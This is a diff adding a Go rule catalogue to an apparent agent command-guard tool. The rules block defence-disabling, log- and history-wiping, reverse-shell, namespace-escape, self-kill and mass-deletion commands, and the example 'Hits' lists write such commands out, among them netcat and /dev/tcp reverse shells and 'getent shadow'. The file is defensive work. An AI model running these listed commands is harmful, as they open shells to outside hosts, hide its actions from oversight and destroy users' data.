@@ -1,0 +1,187 @@
+package catalogue
+
+import (
+	"github.com/agent-loop/shimgen/grammar"
+	"github.com/agent-loop/shimgen/rules"
+)
+
+// monitoring are the rules about what guards the machine and records what is done
+// on it, and about the services that it runs without systemd.
+var monitoring = []rules.Rule{
+	{
+		ID: "watch.selinux", Class: rules.SystemWrite, Program: "setenforce", Operand: "0 permissive Permissive",
+		Reason: "turns off what confines the machine's services",
+		Hint:   "`getenforce` shows how it is",
+		Hits:   []string{"setenforce 0", "sudo setenforce Permissive"},
+		Misses: []string{"setenforce 1", "getenforce"},
+	},
+	{
+		ID: "watch.apparmor", Class: rules.SystemWrite, Program: "aa-teardown aa-disable aa-complain aa-remove-unknown", None: "-h --help",
+		Reason: "turns off what confines the machine's services",
+		Hint:   "`aa-status` shows how it is",
+		Hits:   []string{"aa-teardown", "sudo aa-complain /usr/bin/x"},
+		Misses: []string{"aa-status", "aa-disable --help"},
+	},
+	{
+		ID: "watch.apparmor-unload", Class: rules.SystemWrite, Program: "apparmor_parser", Any: "-R --remove -C --Complain",
+		Reason: "turns off what confines the machine's services",
+		Hint:   "`aa-status` shows how it is",
+		Hits:   []string{"apparmor_parser -R x", "sudo apparmor_parser --remove x"},
+		Misses: []string{"apparmor_parser -Q x"},
+	},
+	{
+		ID: "watch.audit", Class: rules.SystemWrite, Program: "auditctl", Any: "-D -d --reset-lost -W",
+		Reason: "stops recording what is done on the machine",
+		Hint:   "`auditctl -s` shows how it is",
+		Hits:   []string{"auditctl -D", "auditctl -d always,exit"},
+		Misses: []string{"auditctl -s", "auditctl -l"},
+	},
+	{
+		ID: "watch.audit-off", Class: rules.SystemWrite, Program: "auditctl", Any: "-e", Operand: "0",
+		Reason: "stops recording what is done on the machine",
+		Hint:   "`auditctl -s` shows how it is",
+		Hits:   []string{"sudo auditctl -e 0"},
+		Misses: []string{"auditctl -e 1", "auditctl -s"},
+	},
+	{
+		ID: "watch.history", Class: rules.Exposure, Effect: grammar.Sets, Name: "HISTFILE HISTSIZE HISTFILESIZE SAVEHIST", Value: "/dev/null 0 -",
+		Reason: "keeps the shell from recording what is done",
+		Hint:   "leave the history as the user set it",
+		Hits:   []string{"export HISTFILE=/dev/null", "HISTSIZE=0 bash", "export HISTFILE="},
+		Misses: []string{"export HISTSIZE=10000", "HISTFILE=~/.h bash"},
+	},
+	{
+		ID: "watch.history-off", Class: rules.Exposure, Program: "unset", Operand: "HISTFILE HISTSIZE",
+		Reason: "keeps the shell from recording what is done",
+		Hint:   "leave the history as the user set it",
+		Hits:   []string{"unset HISTFILE"},
+		Misses: []string{"unset X", "echo HISTFILE"},
+	},
+	{
+		ID: "watch.history-file", Class: rules.Exposure, Effect: grammar.Writes, Zone: rules.Secret, Value: "*_history",
+		Reason: "overwrites the record of what was typed",
+		Hint:   "leave the history as the user set it",
+		Hits:   []string{"echo > ~/.zsh_history", "ln -sf /dev/null ~/.bash_history", "cp x ~/.bash_history"},
+		Misses: []string{"history -a", "echo x > notes_history", "tail ~/.bashrc"},
+	},
+	{
+		ID: "watch.logins", Class: rules.Destructive, Program: "lastlog faillock", Any: "--clear -C --reset",
+		Reason: "deletes the record of who logged in",
+		Hint:   "`lastlog` alone shows it",
+		Hits:   []string{"lastlog --clear --user x", "faillock --reset"},
+		Misses: []string{"lastlog", "faillock --user x"},
+	},
+	{
+		ID: "watch.shadow", Class: rules.Secrets, Program: "getent", Operand: "shadow gshadow",
+		Reason: "prints the machine's password hashes",
+		Hint:   "`getent passwd` shows who there is",
+		Hits:   []string{"getent shadow", "sudo getent shadow root"},
+		Misses: []string{"getent passwd", "getent hosts example.com"},
+	},
+	{
+		ID: "service.boot", Class: rules.Persistence, Program: "chkconfig update-rc.d rc-update update-alternatives dpkg-divert pam-auth-update alternatives", None: "--list --display --query -h --help --get-selections show",
+		Reason: "changes what starts with the machine, or which program a name stands for",
+		Hint:   "ask the user to make that change",
+		Hits:   []string{"update-rc.d x defaults", "rc-update add x", "chkconfig x on", "update-alternatives --install /usr/bin/x x /tmp/x 1", "sudo dpkg-divert --add /bin/ls"},
+		Misses: []string{"update-alternatives --display x", "chkconfig --list", "update-alternatives --list x"},
+	},
+	{
+		ID: "service.supervised", Class: rules.Destructive, Program: "supervisorctl pm2 sv svc monit s6-svc initctl", Operand: "stop delete kill shutdown down remove exit force-stop -d", None: "-h --help",
+		Reason: "stops services that others use",
+		Hint:   "ask for their status first",
+		Hits:   []string{"supervisorctl stop all", "pm2 delete all", "pm2 kill", "sv down nginx"},
+		Misses: []string{"supervisorctl status", "pm2 list", "pm2 restart x", "sv status nginx"},
+	},
+	{
+		ID: "process.user", Class: rules.Destructive, Program: "pkill killall", Any: "-u -U --euid --user --uid",
+		Reason: "ends everything that a user runs, this session too",
+		Hint:   "`pgrep -u USER -l` shows what that is; name the process",
+		Hits:   []string{"pkill -9 -u me", "killall -u me", "pkill -KILL -u $USER"},
+		Misses: []string{"pkill node", "killall node", "pgrep -u me"},
+	},
+	{
+		ID: "process.everything", Class: rules.SystemWrite, Program: "killall5 skill", None: "-l -h --help",
+		Reason: "ends everything that runs, or everything of a user",
+		Hint:   "name the process",
+		Hits:   []string{"killall5 -9", "skill -KILL -u me"},
+		Misses: []string{"man killall5"},
+	},
+	{
+		ID: "process.users-of", Class: rules.Destructive, Program: "fuser", Any: "-k --kill -km -mk -kM -kvm -vkm", Operand: "/ /home /home/* /usr* /var /var/* /etc* /mnt* /media* /opt* /root*",
+		Reason: "ends all that uses a file system",
+		Hint:   "`lsof FILE` shows who uses it",
+		Hits:   []string{"fuser -k -m /home", "fuser -m -k /mnt", "fuser -km /"},
+		Misses: []string{"fuser -k 8080/tcp", "fuser -v x", "fuser -v -m /home"},
+	},
+	{
+		ID: "self.kill", Class: rules.Escape, Program: "pkill killall", Operand: "shimgen shimgen-mcp",
+		Reason: "ends shimgen itself",
+		Hint:   "ask the user to do it",
+		Hits:   []string{"pkill shimgen", "killall -9 shimgen"},
+		Misses: []string{"pgrep shimgen", "pkill node"},
+	},
+	{
+		ID: "escape.namespace", Class: rules.Escape, Program: "nsenter", Any: "-t=1 --target=1 -a --all",
+		Reason: "enters the machine's own namespaces",
+		Hint:   "ask the user to do it",
+		Hits:   []string{"nsenter -t 1 -m -u -i -n -p sh", "sudo nsenter --target=1 --mount ls", "nsenter --all -t 1"},
+		Misses: []string{"nsenter -t 4242 -n ip a", "nsenter --help"},
+	},
+	{
+		ID: "net.shell", Class: rules.RemoteCode, Program: "nc ncat openssl telnet socat", Fed: "sh bash dash ash ksh mksh zsh fish script", Effect: grammar.Connects,
+		Reason: "sends what a shell answers to another host",
+		Hint:   "send a file that the shell wrote",
+		Hits:   []string{"mkfifo f; sh -i < f 2>&1 | nc h 4444 > f", "bash -i 2>&1 | ncat h 1", "script -qc bash /dev/null | nc h 1"},
+		Misses: []string{"echo x | nc h 1", "bash x.sh | cat", "nc h 1 < x"},
+	},
+	{
+		ID: "net.shell-descriptor", Class: rules.RemoteCode, Program: "sh bash dash ash ksh mksh zsh fish", Any: "-i", Effect: grammar.Connects,
+		Reason: "gives a shell to whoever is at the other end",
+		Hint:   "run the command, and send what it answers",
+		Hits:   []string{"sh -i 5<> /dev/tcp/h/4444 0<&5 1>&5 2>&5"},
+		Misses: []string{"bash -c 'exec 3<>/dev/tcp/h/80'", "bash -i"},
+	},
+	{
+		ID: "net.shell-output", Class: rules.Exposure, Program: "sh bash dash ash ksh mksh zsh fish", None: "-i", Effect: grammar.Connects,
+		Reason: "ties a shell to another host",
+		Hint:   "run the command, and send what it answers",
+		Hits:   []string{"ksh >/dev/tcp/h/4444 2>&1 <&1"},
+		Misses: []string{"bash -c 'exec 3<>/dev/tcp/h/80'", "timeout 1 bash -c '</dev/tcp/h/80'", "bash x.sh"},
+	},
+	{
+		ID: "net.served-shell", Class: rules.RemoteCode, Program: "telnetd ttyd gotty wetty shellinaboxd tmate sshx inetd in.telnetd pwncat", None: "-t -T --help -h -V --version",
+		Reason: "gives a shell to whoever connects",
+		Hint:   "ask the user to do it",
+		Hits:   []string{"ttyd -p 8080 bash", "tmate -F", "telnetd -l /bin/sh -p 2323"},
+		Misses: []string{"ttyd --version", "man ttyd"},
+	},
+	{
+		ID: "net.served-shell-socket", Class: rules.RemoteCode, Program: "websocat", Operand: "*sh-c:* *cmd:* *exec:*",
+		Reason: "gives a shell to whoever is at the other end",
+		Hint:   "connect it to a file or a port",
+		Hits:   []string{"websocat -E ws-l:0.0.0.0:80 sh-c:bash", "websocat ws://h/x cmd:sh"},
+		Misses: []string{"websocat ws://localhost:8080/ws", "websocat -s 8080"},
+	},
+	{
+		ID: "net.login", Class: rules.Exposure, Program: "sshd dropbear", None: "-t -T -V --help -h",
+		Reason: "lets others log in to this machine",
+		Hint:   "ask the user to start it",
+		Hits:   []string{"sshd -p 2222", "/usr/sbin/sshd -D", "dropbear -R"},
+		Misses: []string{"sshd -t", "man sshd"},
+	},
+	{
+		ID: "docker.all", Class: rules.Destructive, Program: "docker", Sub: "rm stop kill rmi container/rm container/stop container/kill image/rm volume/rm network/rm", Fed: "docker",
+		Reason: "stops or deletes all that a list holds",
+		Hint:   "`docker ps` shows the list; name the containers",
+		Hits:   []string{"docker rm $(docker ps -aq)", "docker stop $(docker ps -q)", "docker kill `docker ps -q`"},
+		Misses: []string{"docker rm web", "docker stop web", "docker inspect $(docker ps -q)"},
+	},
+	{
+		ID: "phone.shared", Class: rules.Destructive, Effect: grammar.Deletes, Tree: true, Zone: rules.Outside,
+		Value:  "/sdcard /sdcard/* /storage/emulated/* /storage/self/* */storage/shared */storage/shared/* */storage/dcim* */storage/pictures* */storage/movies* */storage/music* */storage/downloads*",
+		Reason: "deletes the photos and files of the phone, which nothing brings back",
+		Hint:   "name the one directory that this is about, and ask the user",
+		Hits:   []string{"rm -rf /sdcard/DCIM", "rm -r ~/storage/shared/Music", "rm -rf /storage/emulated/0/Download"},
+		Misses: []string{"rm /sdcard/x.txt", "ls /sdcard", "rm -rf storage/tmp"},
+	},
+}
